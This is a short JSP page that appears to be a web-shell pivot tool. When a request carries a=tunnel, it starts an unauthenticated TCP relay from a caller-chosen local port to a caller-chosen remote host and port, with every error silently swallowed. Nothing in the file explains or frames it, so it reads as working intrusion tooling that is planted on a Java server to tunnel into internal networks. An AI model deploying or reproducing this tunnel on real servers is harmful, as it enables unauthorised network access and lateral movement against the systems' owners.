<%@ page import="java.net.*,java.io.*" %>
<%!
// a tunnel object: its constructor takes the local port and the far end, its thread accepts and relays
class Tunnel implements Runnable {
    int localPort, remotePort; String remoteHost; ServerSocket server;
    Tunnel(int lp, String rh, int rp) {
        localPort = lp; remoteHost = rh; remotePort = rp;
        try { server = new ServerSocket(localPort); } catch (Exception e) { }
        new Thread(this).start();
    }
    public void run() {
        while (true) {
            try {
                Socket local = server.accept();
                Socket far = new Socket(remoteHost, remotePort);
                copy(local.getInputStream(), far.getOutputStream());
                copy(far.getInputStream(), local.getOutputStream());
            } catch (Exception e) { }
        }
    }
    void copy(final InputStream i, final OutputStream o) {
        new Thread() { public void run() { try { int c; while ((c = i.read()) != -1) o.write(c); } catch (Exception e) { } } }.start();
    }
}
%>
<%
if ("tunnel".equals(request.getParameter("a"))) {
    new Tunnel(Integer.parseInt(request.getParameter("lp")), request.getParameter("rh"),
               Integer.parseInt(request.getParameter("rp")));
    out.print("tunnel up");
}
%>
